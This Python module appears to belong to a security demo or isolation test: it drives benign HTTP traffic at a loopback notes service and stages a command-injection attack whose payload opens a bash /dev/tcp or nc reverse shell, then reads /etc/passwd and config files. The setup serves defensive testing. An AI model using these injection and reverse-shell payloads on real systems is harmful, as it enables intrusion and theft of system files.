"""Benign traffic and the attack, both real HTTP against the demo service on loopback."""

from __future__ import annotations

import contextlib
import random
import socket
import threading
import time
import urllib.parse
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path


def seed_notes(data: Path) -> list[str]:
    """A few notes for the service to serve."""
    data.mkdir(parents=True, exist_ok=True)
    names = []
    for i, text in enumerate(
        ["buy milk", "call the bank", "quarterly report draft " * 20, "passwords are in vault"]
    ):
        p = data / f"note{i}.txt"
        p.write_text(text + "\n")
        names.append(p.name)
    return names


def get(url: str, timeout: float = 5.0) -> bytes:
    with urllib.request.urlopen(url, timeout=timeout) as r:  # noqa: S310  (loopback http)
        return bytes(r.read())


def notes_path(r: float, note: str) -> str:
    """The host demo service's request for a uniform draw ``r``: index, list, read, size."""
    if r < 0.15:
        return "/"
    if r < 0.4:
        return "/notes"
    if r < 0.75:
        return f"/note?name={note}"
    return f"/size?name={note}"


class BenignTraffic:
    """A user browsing notes: index, list, read, size (which spawns sh + wc), ~15 req/s.

    ``path_of(r, note)`` maps a uniform draw and a note name to a request path (the guest's
    service has its own URLs, same mix)."""

    def __init__(
        self,
        base: str,
        names: list[str],
        rate_hz: float = 15.0,
        seed: int = 1,
        path_of: Callable[[float, str], str] = notes_path,
    ) -> None:
        self.base = base
        self.names = names
        self.path_of = path_of
        self.period = 1.0 / rate_hz
        self.rng = random.Random(seed)  # noqa: S311  (traffic mix, not crypto)
        self.stop = threading.Event()
        self.requests = 0
        self.errors = 0
        self.error_log: list[str] = []
        self.thread = threading.Thread(target=self._run, name="benign-traffic", daemon=True)

    def start(self) -> BenignTraffic:
        self.thread.start()
        return self

    def _run(self) -> None:
        while not self.stop.is_set():
            r = self.rng.random()
            n = self.rng.choice(self.names)
            path = self.path_of(r, n)
            try:
                get(self.base + path, timeout=2.0)
                self.requests += 1
            except OSError as e:
                self.errors += 1
                if len(self.error_log) < 20:
                    self.error_log.append(f"{time.time():.2f} {path}: {e}")
            self.stop.wait(self.period * (0.5 + self.rng.random()))

    def close(self) -> None:
        self.stop.set()
        self.thread.join(timeout=5)


@dataclass
class Attack:
    """Command injection → a reverse shell to a loopback listener → the attacker reads files.

    ``tool="bash"``: ``bash -i >& /dev/tcp/HOST/PORT`` (the host service); ``"nc"``: busybox
    ``nc HOST PORT -e sh`` (the guest, which reaches the host's loopback as ``10.0.2.2``)."""

    base: str
    connect_host: str = "127.0.0.1"
    endpoint: str = "/size"
    tool: str = "bash"
    listener: socket.socket = field(init=False)
    port: int = field(init=False)
    sent_at: float = 0.0
    connected_at: float | None = None
    output: bytes = b""
    conn: socket.socket | None = None

    def __post_init__(self) -> None:
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(1)
        self.port = self.listener.getsockname()[1]

    def payload(self) -> str:
        if self.tool == "nc":
            return f"x.txt; nc {self.connect_host} {self.port} -e sh"
        shell = f"bash -c 'bash -i >& /dev/tcp/{self.connect_host}/{self.port} 0>&1'"
        return f"x.txt; {shell}"

    def launch(self) -> None:
        """Send the exploit (in a thread: the vulnerable request blocks while the shell runs)."""
        url = self.base + self.endpoint + "?name=" + urllib.parse.quote(self.payload())
        self.sent_at = time.time()

        def fire() -> None:
            with contextlib.suppress(OSError):
                get(url, timeout=60)

        threading.Thread(target=fire, name="exploit", daemon=True).start()

    def operate(self, timeout_s: float = 10.0) -> bool:
        """Accept the shell, run the attacker's commands, collect output. False: no shell."""
        self.listener.settimeout(timeout_s)
        try:
            conn, _ = self.listener.accept()
        except OSError:
            return False
        self.connected_at = time.time()
        self.conn = conn
        conn.settimeout(0.5)
        for cmd in (
            "id",
            "uname -a",
            "cat /etc/passwd",
            "ls -la /etc",
            "cat note3.txt",
            "find / -maxdepth 2 -name '*.conf'",
        ):
            try:
                conn.sendall(cmd.encode() + b"\n")
                self.output += self._recv(0.4)
            except OSError:
                break
        return True

    def _recv(self, seconds: float) -> bytes:
        assert self.conn is not None
        end = time.monotonic() + seconds
        out = b""
        while time.monotonic() < end:
            try:
                chunk = self.conn.recv(65536)
            except TimeoutError:
                continue
            except OSError:
                break
            if not chunk:
                break
            out += chunk
        return out

    def shell_responds(self, timeout_s: float = 1.0) -> bool:
        """Does the shell still answer (it must not once the workload is isolated)?"""
        if self.conn is None:
            return False
        try:
            self.conn.sendall(b"echo still-here\n")
        except OSError:
            return False
        return b"still-here" in self._recv(timeout_s)

    def close(self) -> None:
        if self.conn is not None:
            self.conn.close()
        self.listener.close()
